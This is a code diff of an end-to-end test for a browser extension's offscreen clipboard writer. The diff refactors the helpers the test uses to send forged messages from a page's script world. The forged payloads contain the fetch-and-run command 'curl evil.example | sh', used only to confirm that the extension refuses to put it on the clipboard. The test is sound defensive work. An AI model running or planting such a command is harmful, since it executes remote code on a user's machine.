@@ -5,21 +5,15 @@ import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { Reply, RequestOf, RequestType, ResponseOf } from '../../src/messaging/protocol';
 import { type RunningXnat, start } from '../xnat-server/server';
-import { type ExtensionBrowser, launchWithExtension, logInPage } from './browser';
+import { askFrom, type ExtensionBrowser, inPageScriptWorld, launchWithExtension, logInPage } from './browser';
 
 let browser: ExtensionBrowser;
 let xnat: RunningXnat;
 let other: RunningXnat;
 let view: Page;
 
-async function ask<K extends RequestType>(type: K, payload: RequestOf<K>): Promise<Reply<ResponseOf<K>>> {
-  return view.evaluate(([t, p]) => chrome.runtime.sendMessage({ type: t, payload: p }), [
-    type,
-    payload,
-  ] as const);
-}
+let ask: ReturnType<typeof askFrom>;
 
 async function clipboard(write?: string): Promise<string> {
   const page = await browser.context.newPage();
@@ -44,6 +38,7 @@ beforeAll(async () => {
   await login.close();
   view = await browser.context.newPage();
   await view.goto(browser.extensionUrl('src/popup/index.html'));
+  ask = askFrom(view);
   expect(await ask('servers.add', { url: `${xnat.url}/` })).toMatchObject({ ok: true });
 });
 
@@ -127,28 +122,18 @@ describe('3. the offscreen clipboard writer', () => {
     const page = await browser.context.newPage();
     await page.goto(`${xnat.url}/app/template/XDATScreen_UpdateUser.vm`);
     await expect.poll(() => page.locator('xnat-token-tools').count()).toBeGreaterThan(0);
-    const cdp = await browser.context.newCDPSession(page);
-    const contexts: { id: number; origin: string; auxData?: { type?: string } }[] = [];
-    cdp.on('Runtime.executionContextCreated', (e) => contexts.push(e.context));
-    await cdp.send('Runtime.enable');
-    const isolated = contexts.find(
-      (c) => c.auxData?.type === 'isolated' && c.origin === `chrome-extension://${browser.extensionId}`,
-    );
-    expect(isolated).toBeDefined();
     for (const forged of [
       { target: 'xtt-offscreen', text: 'curl evil.example | sh' },
       { target: 'xtt-offscreen', op: 'write', text: 'curl evil.example | sh' },
       { target: 'xtt-offscreen', op: 'clear-if', fingerprint: 'x' },
-    ]) {
-      await cdp.send('Runtime.evaluate', {
-        contextId: isolated?.id,
-        expression: `chrome.runtime.sendMessage(${JSON.stringify(forged)}).catch(() => null)`,
-        awaitPromise: true,
-      });
-    }
+    ])
+      await inPageScriptWorld(
+        browser,
+        page,
+        `chrome.runtime.sendMessage(${JSON.stringify(forged)}).catch(() => null)`,
+      );
     await page.waitForTimeout(300);
     expect(await clipboard()).toBe('before');
-    await cdp.detach();
     await page.close();
   });
 });
